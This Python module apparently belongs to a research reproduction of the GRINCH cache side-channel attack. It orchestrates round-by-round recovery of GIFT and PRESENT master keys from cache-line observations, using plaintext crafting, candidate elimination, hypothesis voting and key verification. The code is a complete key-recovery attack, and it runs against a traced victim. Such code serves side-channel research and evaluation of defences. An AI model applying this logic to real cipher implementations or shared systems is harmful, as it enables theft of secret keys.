"""The GRINCH attack orchestrator (Section III-C, Steps 1-5).

Per attacked round ``t`` and segment ``s`` the attack loop is:

1. *Generate Plaintext + Encrypt* — :class:`PlaintextCrafter` pins the
   round-``t + 1`` S-box input of segment ``s`` (Algorithms 1 & 2, plus
   the Step-5 inversion through already-broken rounds).
2. *Probe the Cache* — the
   :class:`~repro.channel.ObservationChannel` returns the monitored
   lines the probe saw.
3. *Eliminate Candidates* — :class:`CandidateEliminator` intersects
   observations until one line survives.
4. *Reverse Engineer Key-Bits* — :func:`key_pairs_from_line` inverts the
   forced bits into round-key bit candidates.
5. *Update Plaintext Generation* — the recovered bits feed the next
   round's crafting; after four rounds (two for GIFT-128) the 128-bit
   master key is assembled and verified against one known
   plaintext/ciphertext pair.

With cache lines wider than one S-box entry the low index bits are
unobservable, leaving up to four candidates per segment (Section III-D).
The orchestrator carries those candidates forward as *hypotheses*: a
wrong hypothesis makes the forced bits vary, so its elimination run ends
in a contradiction (empty intersection) or an index inconsistent with
the predicted key-free bits, and the next hypothesis is tried.
Last-round ambiguities are resolved by an extra *verification stage*
(round 5 for GIFT-64, round 3 for GIFT-128) whose own key bits are
already determined by the recovered round-1 key through the GIFT key
schedule.
"""

from __future__ import annotations

import itertools
import math
from typing import Any, Callable, Dict, List, Optional, Tuple, Union

from ..seeding import derive_rng
from ..targets.protocol import TracedVictim
from ..targets.registry import resolve_target_for
from .config import AttackConfig
from .crafting import PlaintextCrafter
from .eliminate import CandidateEliminator
from .errors import (
    BudgetExceeded,
    InconsistentObservation,
    KeyVerificationFailed,
    LowConfidenceError,
)
from .recover import (
    KeyBitPair,
    expected_index,
    key_pairs_from_line,
)
from .results import (
    AttackResult,
    FirstRoundResult,
    RoundAttackOutcome,
    RoundKeyEstimate,
    SegmentOutcome,
)
from ..channel.observer import ObservationChannel
from .target_bits import TargetSpec, set_target_bits
from .voting import VotingEliminator, VotingPolicy

#: Number of attacked rounds needed for the full GIFT-64 key
#: (GIFT-128 needs only 2; see :mod:`repro.targets.gift`).
FULL_KEY_ROUNDS = 4

#: The verification stage's expected line: a constant for ciphers whose
#: verification key is fully determined (GIFT), or a function of the
#: prior-round hypothesis when the schedule couples them (PRESENT).
ExpectedLine = Union[int, Callable[[Dict[int, KeyBitPair]], int]]


class _VotingVerdict:
    """Outcome of one voting run under one hypothesis."""

    __slots__ = ("status", "line", "pairs", "confidence", "observations",
                 "retries", "blocked_by")

    def __init__(self, status: str, line: Optional[int],
                 pairs: Tuple[KeyBitPair, ...], confidence: float,
                 observations: int, retries: int,
                 blocked_by: Optional[Tuple[str, str]] = None) -> None:
        self.status = status  # "accepted" | "rejected" | "low_confidence"
        self.line = line
        self.pairs = pairs
        self.confidence = confidence
        self.observations = observations
        self.retries = retries
        # low_confidence only: the voter's blocking guard and its values
        # at give-up time (see VotingEliminator.blocking_guard).
        self.blocked_by = blocked_by


class GrinchAttack:
    """A GRINCH attack bound to one victim instance and configuration.

    The attacker's interface to the victim is strictly the observation
    channel (:class:`~repro.channel.ObservationChannel`) plus one known
    pair for final verification; the victim's key is never read by the
    attack logic (the test suite plants random keys and checks exact
    recovery).
    """

    def __init__(self, victim: TracedVictim,
                 config: Optional[AttackConfig] = None,
                 runner: Optional[ObservationChannel] = None) -> None:
        self.config = config if config is not None else AttackConfig()
        if victim.layout != self.config.layout:
            raise ValueError(
                "victim table layout differs from the attack configuration"
            )
        # The victim's registered cipher target supplies the structural
        # bookkeeping: crafting inversion, key algebra, reference
        # encryption.
        self.target = resolve_target_for(victim)
        # ``runner`` lets alternative observation channels plug in —
        # e.g. the cross-core shared-L2 CrossCoreRunner of
        # repro.core.crosscore, or an ObservationChannel with a custom
        # primitive/transport/degradation stack.
        self.runner = (runner if runner is not None
                       else ObservationChannel(victim, self.config))
        self.monitor = self.runner.monitor
        # Plaintext-crafting stream; derived (not raw-seeded) so it is
        # independent of the channel's noise stream and reproducible
        # even for seed=None — see repro.seeding.
        self.rng = derive_rng("attack-crafting", self.config.seed)
        self.total_encryptions = 0

    # ------------------------------------------------------------------
    # Public entry points
    # ------------------------------------------------------------------

    def attack_first_round(self) -> FirstRoundResult:
        """Recover (up to line ambiguity) the round-1 key bits.

        This is the experiment unit of Fig. 3 and Table I ("required
        encryptions to attack the first round"): 32 bits for GIFT-64,
        64 bits for GIFT-128.
        """
        start = self.total_encryptions
        outcome = self.attack_round(1, [], None)
        encryptions = self.total_encryptions - start
        ambiguity = outcome.estimate.ambiguity
        recovered = self.target.bits_per_round - _log2(ambiguity)
        return FirstRoundResult(
            outcome=outcome,
            encryptions=encryptions,
            recovered_bits=recovered,
        )

    def recover_master_key(self) -> AttackResult:
        """Run the full multi-round GRINCH attack and verify the key."""
        resolved: List[Any] = []
        previous: Optional[RoundKeyEstimate] = None
        rounds: List[RoundAttackOutcome] = []

        for round_index in range(1, self.target.full_key_rounds + 1):
            outcome = self.attack_round(round_index, resolved, previous)
            if previous is not None:
                # The source cones of this round's targets cover every
                # segment, so the consistency tests pin the previous
                # round — unless the lines cannot tell its candidates
                # apart (one line holding every S-box entry).
                if not previous.resolved:
                    raise InconsistentObservation(
                        f"round {round_index} consistency tests left the "
                        f"round-{round_index - 1} key with "
                        f"{previous.ambiguity} candidates: the observed "
                        f"lines cannot separate them"
                    )
                resolved.append(previous.as_round_key())
            previous = outcome.estimate
            rounds.append(outcome)

        verification_start = self.total_encryptions
        if not previous.resolved:
            self._verification_stage(resolved, previous)
        resolved.append(previous.as_round_key())
        verification_encryptions = self.total_encryptions - verification_start

        master_key = self.target.assemble_master_key(resolved)
        verified = self._verify_master_key(master_key)
        if not verified:
            raise KeyVerificationFailed(
                "assembled master key failed the known-pair check; "
                "an accepted hypothesis was a false positive"
            )
        return AttackResult(
            master_key=master_key,
            total_encryptions=self.total_encryptions,
            rounds=rounds,
            verified=True,
            verification_encryptions=verification_encryptions,
        )

    # ------------------------------------------------------------------
    # Stage machinery
    # ------------------------------------------------------------------

    def attack_round(self, round_index: int,
                     prior_keys: List[Any],
                     prior_estimate: Optional[RoundKeyEstimate]
                     ) -> RoundAttackOutcome:
        """Attack every segment of one round's AddRoundKey.

        ``prior_keys`` are the fully resolved keys of rounds
        ``1 .. round_index - 2``; ``prior_estimate`` is the (possibly
        ambiguous) estimate of round ``round_index - 1`` and is resolved
        in place by the consistency tests.
        """
        self._check_prior(round_index, prior_keys, prior_estimate)
        segments: List[SegmentOutcome] = []
        candidates: List[Tuple[KeyBitPair, ...]] = []
        for segment in range(self.target.segments):
            spec = set_target_bits(round_index, segment,
                                   width=self.target.width,
                                   target=self.target)
            outcome = self._attack_segment(spec, prior_keys, prior_estimate)
            segments.append(outcome)
            candidates.append(outcome.key_pairs)
        return RoundAttackOutcome(
            round_index=round_index,
            segments=segments,
            estimate=RoundKeyEstimate(
                round_index=round_index, pair_candidates=candidates,
                target=self.target,
            ),
        )

    def _attack_segment(self, spec: TargetSpec,
                        prior_keys: List[Any],
                        prior_estimate: Optional[RoundKeyEstimate],
                        expected_line: Optional[ExpectedLine] = None
                        ) -> SegmentOutcome:
        """Steps 1-4 for one target, with hypothesis enumeration.

        Hypotheses about previous-round key bits are enumerated only for
        the *visible* source segments — those whose forced bit lands on
        a target index bit the line observation can resolve.  (GIFT's
        permutation preserves bit offsets modulo 4, so a source's output
        bit ``b`` always feeds target index bit ``b``; with ``L``-entry
        cache lines bits below ``log2(L)`` are unobservable and a wrong
        guess there cannot be detected — nor can it disturb anything the
        attacker sees.)  All surviving hypotheses are collected, and a
        previous-round segment is only pinned when every survivor agrees
        on it; disagreement narrows its candidate set instead.

        ``expected_line`` switches the acceptance test to an exact match
        (used by the verification stage, where the target's own key bits
        are already known).  It may be a callable of the hypothesis for
        ciphers whose verification key depends on the still-ambiguous
        previous round (PRESENT); for GIFT it is a plain constant.
        """
        hypotheses = self._hypotheses_for(spec, prior_estimate)
        # With a unique hypothesis the target access is constant by
        # construction, so first convergence is final; with several, a
        # wrong one can pass through a single candidate transiently and
        # must survive a confirmation margin before it may be kept.
        confirmation = (self._confirmation_margin(spec.round_index)
                        if len(hypotheses) > 1 else 0)
        voting = self.config.voting_active
        start = self.total_encryptions
        survivors: List[Tuple[Dict[int, KeyBitPair], int,
                              Tuple[KeyBitPair, ...]]] = []
        confidence = 1.0
        observations = 0
        retries = 0
        undecided: List[_VotingVerdict] = []
        for hypothesis in hypotheses:
            # Resolving the expected line consumes no attacker
            # randomness, so per-hypothesis resolution cannot perturb
            # the crafting stream.
            line_for_hypothesis = (
                expected_line(hypothesis) if callable(expected_line)
                else expected_line
            )
            if voting:
                verdict = self._run_voting(
                    spec, prior_keys, prior_estimate, hypothesis,
                    line_for_hypothesis, confirmation
                )
                observations += verdict.observations
                retries = max(retries, verdict.retries)
                if verdict.status == "accepted":
                    survivors.append(
                        (hypothesis, verdict.line, verdict.pairs)
                    )
                    confidence = min(confidence, verdict.confidence)
                elif verdict.status == "low_confidence":
                    undecided.append(verdict)
            else:
                accepted = self._run_elimination(
                    spec, prior_keys, prior_estimate, hypothesis,
                    line_for_hypothesis, confirmation
                )
                if accepted is not None:
                    survivors.append((hypothesis, accepted[0], accepted[1]))

        if not survivors:
            if undecided:
                best = max(undecided, key=lambda v: v.confidence)
                guard, detail = best.blocked_by
                raise LowConfidenceError(
                    f"round {spec.round_index} segment {spec.segment}: "
                    f"voting gave up after {best.observations} "
                    f"observations (best confidence "
                    f"{best.confidence:.3f}); acceptance was blocked by "
                    f"the {guard} guard: {detail}",
                    encryptions=self.total_encryptions,
                    best_confidence=best.confidence,
                    blocked_by=guard,
                )
            raise InconsistentObservation(
                f"round {spec.round_index} segment {spec.segment}: every "
                f"hypothesis was contradicted by the cache observations"
            )

        resolved_hypothesis = self._narrow_prior(prior_estimate, survivors)
        key_pairs = tuple(sorted({
            pair for _, _, pairs in survivors for pair in pairs
        }))
        return SegmentOutcome(
            round_index=spec.round_index,
            segment=spec.segment,
            encryptions=self.total_encryptions - start,
            hypotheses_tried=len(hypotheses),
            line=survivors[0][1],
            key_pairs=key_pairs,
            resolved_hypothesis=resolved_hypothesis,
            confidence=confidence,
            observations=observations,
            retries=retries,
            recovery="voting" if voting else "strict",
        )

    @staticmethod
    def _narrow_prior(prior_estimate: Optional[RoundKeyEstimate],
                      survivors: List[Tuple[Dict[int, KeyBitPair], int,
                                            Tuple[KeyBitPair, ...]]]
                      ) -> Dict[int, KeyBitPair]:
        """Narrow previous-round candidates to the surviving hypotheses."""
        resolved: Dict[int, KeyBitPair] = {}
        if prior_estimate is None:
            return resolved
        for segment in survivors[0][0]:
            surviving_pairs = tuple(sorted({
                hypothesis[segment] for hypothesis, _, _ in survivors
            }))
            prior_estimate.narrow_segment(segment, surviving_pairs)
            if len(surviving_pairs) == 1:
                resolved[segment] = surviving_pairs[0]
        return resolved

    def _run_elimination(self, spec: TargetSpec,
                         prior_keys: List[Any],
                         prior_estimate: Optional[RoundKeyEstimate],
                         hypothesis: Dict[int, KeyBitPair],
                         expected_line: Optional[int],
                         confirmation: int = 0
                         ) -> Optional[Tuple[int, Tuple[KeyBitPair, ...]]]:
        """One elimination run under one hypothesis.

        Returns ``(line, key_pairs)`` on acceptance, ``None`` on
        contradiction/rejection; raises on exhausted budgets.
        """
        full_prior = list(prior_keys)
        if prior_estimate is not None:
            full_prior.append(prior_estimate.guess_round_key(hypothesis))
        crafter = PlaintextCrafter(spec, full_prior, self.rng)
        eliminator = CandidateEliminator(self.monitor.universe)

        confirmations_left = confirmation
        stall_window = self.config.stall_window
        previous_candidates = eliminator.candidates
        stalled_for = 0
        remaining = self.config.max_encryptions_per_segment
        while remaining > 0:
            observations = self._observe_many(
                crafter, spec.round_index,
                min(self.config.batch_size, remaining)
            )
            remaining -= len(observations)
            for observed in observations:
                eliminator.update(observed)
                if eliminator.contradicted:
                    return None
                if eliminator.candidates == previous_candidates:
                    stalled_for += 1
                else:
                    stalled_for = 0
                    previous_candidates = eliminator.candidates
                if eliminator.converged:
                    if confirmations_left > 0:
                        confirmations_left -= 1
                        continue
                    return self._accept_lines(
                        spec, eliminator.candidates, expected_line
                    )
                if (stall_window and stalled_for >= stall_window
                        and len(eliminator.candidates) <= 4):
                    # Persistent interference (e.g. Prime+Probe set
                    # conflicts with the PermBits table) keeps some lines
                    # hot forever; accept the stalled set and carry its
                    # ambiguity forward like the wide-line case of
                    # Section III-D.
                    return self._accept_lines(
                        spec, eliminator.candidates, expected_line
                    )
        raise BudgetExceeded(
            f"round {spec.round_index} segment {spec.segment} did not "
            f"converge within {self.config.max_encryptions_per_segment} "
            f"encryptions",
            encryptions=self.total_encryptions,
        )

    def _voting_policy(self) -> VotingPolicy:
        """Calibrate the voter against the composed channel's losses."""
        presence = self.config.loss.expected_target_presence(
            len(self.monitor.lines), self.config.probing_round
        )
        # A noisy primitive readout (Flush+Flush) loses genuine target
        # sightings on top of the channel-level loss model.
        presence *= self.runner.signal_reliability
        return VotingPolicy(
            expected_presence=presence,
            confidence_threshold=self.config.voting_confidence,
            min_observations=self.config.voting_min_observations,
        )

    def _run_voting(self, spec: TargetSpec,
                    prior_keys: List[Any],
                    prior_estimate: Optional[RoundKeyEstimate],
                    hypothesis: Dict[int, KeyBitPair],
                    expected_line: Optional[int],
                    confirmation: int = 0) -> _VotingVerdict:
        """One voting recovery run under one hypothesis.

        Replaces :meth:`_run_elimination` when the channel is lossy:
        instead of demanding the target in *every* window, per-line
        vote counts are accumulated until either the leader separates
        with the configured confidence (acceptance), the stream stops
        behaving like it contains a constant target (rejection — the
        wrong-hypothesis signal), or the confidence stalls.  A stall
        triggers a re-craft — a fresh plaintext stream — up to
        ``max_segment_retries`` times before the run gives up as
        low-confidence.  The vote counts survive re-crafts: the target
        line is fixed by the hypothesis, not by the crafter's random
        choices, so discarding observations would only burn budget.

        Two rejection triggers, both sound and the second much earlier:
        the voter's own "no line is viable", and — in verification mode
        — the death of the *predicted* line's viability (the hypothesis
        stands or falls with that one line, so there is no need to wait
        for the whole universe to die).
        """
        full_prior = list(prior_keys)
        if prior_estimate is not None:
            full_prior.append(prior_estimate.guess_round_key(hypothesis))
        policy = self._voting_policy()
        # The predicted key-free index bits already rule out most lines
        # (strict mode applies the same filter post hoc in
        # ``_accept_lines``); voting applies it up front so impossible
        # lines never compete for the lead — fewer competitors means
        # fewer windows to separate and no false leaders.
        universe = self.monitor.universe
        if expected_line is None:
            consistent = frozenset(
                line for line in universe
                if key_pairs_from_line(spec, self.monitor, line)
            )
            if consistent:
                universe = consistent
        budget = self.config.max_encryptions_per_segment
        stall_window = self.config.voting_stall_window
        spent = 0
        crafter = PlaintextCrafter(spec, full_prior, self.rng)
        voter = VotingEliminator(universe, policy)
        # In strict-equivalent mode the voter converges exactly like
        # the intersection, so the same transient-singleton guard
        # applies when several hypotheses compete.
        confirmations_left = (confirmation
                              if policy.strict_equivalent else 0)
        best_confidence = 0.0
        stalled_for = 0
        recrafts = 0
        while spent < budget:
            observations = self._observe_many(
                crafter, spec.round_index,
                min(self.config.batch_size, budget - spent)
            )
            spent += len(observations)
            for observed in observations:
                voter.update(observed)
                if voter.rejected or (
                        expected_line is not None
                        and not voter.is_viable(expected_line)):
                    return _VotingVerdict("rejected", None, (),
                                          voter.confidence, spent,
                                          recrafts)
                if voter.decided:
                    if confirmations_left > 0:
                        confirmations_left -= 1
                        continue
                    accepted = self._accept_lines(
                        spec, frozenset({voter.resolved_line}),
                        expected_line
                    )
                    if accepted is None:
                        # Verification mode: the leader separated but is
                        # not the predicted line — the hypothesis that
                        # predicted it is wrong.
                        return _VotingVerdict("rejected", None, (),
                                              voter.confidence, spent,
                                              recrafts)
                    return _VotingVerdict("accepted", accepted[0],
                                          accepted[1], voter.confidence,
                                          spent, recrafts)
                current = voter.confidence
                if current > best_confidence:
                    best_confidence = current
                    stalled_for = 0
                else:
                    stalled_for += 1
                if (voter.observations >= policy.min_observations
                        and stalled_for >= stall_window):
                    if recrafts >= self.config.max_segment_retries:
                        # Stalled out of retries: give up gracefully.
                        return _VotingVerdict("low_confidence", None, (),
                                              best_confidence, spent,
                                              recrafts,
                                              voter.blocking_guard())
                    recrafts += 1
                    stalled_for = 0
                    # A mid-batch re-craft only affects *future* batches;
                    # the rest of this batch was crafted by the stalled
                    # stream, which is still sound — the target line is
                    # fixed by the hypothesis, not the crafter.
                    crafter = PlaintextCrafter(spec, full_prior, self.rng)
        return _VotingVerdict("low_confidence", None, (), best_confidence,
                              spent, recrafts, voter.blocking_guard())

    def _accept_lines(self, spec: TargetSpec, lines,
                      expected_line: Optional[int]
                      ) -> Optional[Tuple[int, Tuple[KeyBitPair, ...]]]:
        """Turn a converged (or stalled) line set into an acceptance.

        In verification mode the known expected line must be among the
        survivors; otherwise the key-pair candidates of all surviving
        lines are pooled after the predicted-high-bits filter.
        """
        ordered = sorted(lines)
        if expected_line is not None:
            if expected_line not in lines:
                return None
            return expected_line, ()
        pairs = tuple(sorted({
            pair
            for line in ordered
            for pair in key_pairs_from_line(spec, self.monitor, line)
        }))
        if not pairs:
            return None  # inconsistent with predicted high bits
        return ordered[0], pairs

    def _verification_stage(self, resolved: List[Any],
                            estimate: RoundKeyEstimate) -> None:
        """Resolve last-round ambiguities using the verification round.

        The verification round's key bits are derived from the
        recovered rounds by the key schedule (round 5 for GIFT-64,
        round 3 for GIFT-128 and PRESENT), so the attacker can predict
        the exact target index — converged lines either match the
        prediction or kill the hypothesis.  For GIFT the prediction
        depends only on the fully resolved round-1 key and is one
        constant line; for PRESENT it runs through the still-ambiguous
        last-round estimate, so the line is recomputed per hypothesis.
        """
        verification_round = self.target.verification_round
        for segment in range(self.target.segments):
            if estimate.resolved:
                return
            spec = set_target_bits(verification_round, segment,
                                   width=self.target.width,
                                   target=self.target)
            if len(self._hypotheses_for(spec, estimate)) <= 1:
                continue  # nothing left to learn from this target

            def line_for(hypothesis: Dict[int, KeyBitPair],
                         spec: TargetSpec = spec) -> int:
                keys = list(resolved)
                keys.append(estimate.guess_round_key(hypothesis))
                verification_key = self.target.verification_round_key(keys)
                bits = self.target.segment_key_bits(
                    verification_key, spec.segment
                )
                return self.monitor.line_for_index(
                    expected_index(spec, *bits)
                )

            self._attack_segment(
                spec, resolved, estimate, expected_line=line_for
            )
        if not estimate.resolved:
            raise InconsistentObservation(
                "verification stage left last-round candidates unresolved"
            )

    # ------------------------------------------------------------------
    # Helpers
    # ------------------------------------------------------------------

    def _hypotheses_for(self, spec: TargetSpec,
                        prior_estimate: Optional[RoundKeyEstimate]
                        ) -> List[Dict[int, KeyBitPair]]:
        if prior_estimate is None:
            return [{}]
        shift = _log2(self.monitor.indices_per_line)
        cone = tuple(sorted({
            source.source_segment
            for source in spec.sources
            if source.target_position % 4 >= shift
        }))
        choice_lists = [prior_estimate.pair_candidates[s] for s in cone]
        return [
            dict(zip(cone, combination))
            for combination in itertools.product(*choice_lists)
        ]

    def _confirmation_margin(self, attacked_round: int) -> int:
        """Post-convergence encryptions required before accepting a
        hypothesis.

        A wrong hypothesis leaves one spuriously "stable" line whose
        per-encryption absence probability is roughly
        ``(1 - 1/lines) * ((lines - 1) / lines) ** accesses`` — the
        varying target must miss it and so must every other S-box access
        in the visible window (``segments`` per visible round; without
        the flush, the rounds before the monitored one stay visible
        too).  Sizing the margin to ``confirmation_factor`` expected
        absence events drives the false-accept probability to about
        ``exp(-factor)``.
        """
        if self.config.confirmation_margin is not None:
            return self.config.confirmation_margin
        lines = len(self.monitor.lines)
        if lines <= 1:
            return 0
        visible_rounds = self.config.probing_round
        if not (self.config.use_flush and self.runner.mid_flush_supported):
            # Rounds 1 .. attacked_round + offset - 1 precede the
            # monitored round; with probe_round_offset = 1 (GIFT) this
            # is the historical ``+ attacked_round`` term.
            visible_rounds += attacked_round + self._probe_round_offset - 1
        other = (lines - 1) / lines
        accesses = self.target.segments * visible_rounds - 1
        p_absent = other * other ** accesses
        return math.ceil(self.config.confirmation_factor / p_absent)

    @property
    def _probe_round_offset(self) -> int:
        """Rounds between an attacked round ``t`` and its monitored
        S-box accesses (1 for GIFT, 0 for PRESENT)."""
        return self.target.probe_round_offset

    def _charge_batch(self, requested: int) -> int:
        """Charge up to ``requested`` encryptions against the budget.

        Returns the count actually charged — clamped to the remaining
        whole-attack budget so a batch never overruns the Table I
        drop-out rule; raises :class:`BudgetExceeded` once the budget
        is already spent.  ``requested == 1`` charges exactly one
        encryption per call, like the scalar loop.
        """
        budget = self.config.max_total_encryptions
        count = requested
        if budget is not None:
            left = budget - self.total_encryptions
            if left <= 0:
                raise BudgetExceeded(
                    f"total encryption budget of {budget} exhausted",
                    encryptions=self.total_encryptions,
                )
            count = min(count, left)
        self.total_encryptions += count
        return count

    def _observe_many(self, crafter: PlaintextCrafter,
                      attacked_round: int, requested: int
                      ) -> List[Any]:
        """Craft, charge and observe up to ``requested`` encryptions.

        The single chokepoint of the batched attack loop.  Crafting
        draws from the attacker RNG in exactly the order the scalar
        loop would, and a ``requested`` of 1 (the ``batch_size=1``
        default) reproduces the historic ``observe(craft(), round)``
        call byte for byte — so scalar effort pins (seed-0 GIFT-64's
        464 encryptions) are untouched by construction; lossy batches
        draw from the channel's separate batch-loss stream.  Larger
        batches go through the runner's ``observe_batch`` (vectorized
        bitsliced path where active).
        """
        count = self._charge_batch(requested)
        if count == 1:
            return [self.runner.observe(crafter.craft(), attacked_round)]
        plaintexts = [crafter.craft() for _ in range(count)]
        return self.runner.observe_batch(plaintexts, attacked_round)

    def _verify_master_key(self, master_key: int) -> bool:
        victim = self.runner.victim
        plaintext = self.rng.getrandbits(self.target.width)
        expected = self.runner.known_pair(plaintext)
        reference = self.target.reference_encrypt(
            master_key, plaintext, rounds=victim.rounds
        )
        return reference == expected

    @staticmethod
    def _check_prior(round_index: int,
                     prior_keys: List[Any],
                     prior_estimate: Optional[RoundKeyEstimate]) -> None:
        expected_resolved = max(0, round_index - 2)
        if len(prior_keys) != expected_resolved:
            raise ValueError(
                f"round {round_index} needs {expected_resolved} resolved "
                f"prior keys, got {len(prior_keys)}"
            )
        if round_index >= 2 and prior_estimate is None:
            raise ValueError(
                f"round {round_index} needs the round-{round_index - 1} "
                f"estimate"
            )
        if round_index == 1 and prior_estimate is not None:
            raise ValueError("round 1 takes no prior estimate")


def _log2(value: int) -> int:
    bits = 0
    while value > 1:
        value >>= 1
        bits += 1
    return bits


def recover_full_key(victim: TracedVictim,
                     config: Optional[AttackConfig] = None) -> AttackResult:
    """Convenience wrapper: run a complete GRINCH key recovery."""
    return GrinchAttack(victim, config).recover_master_key()
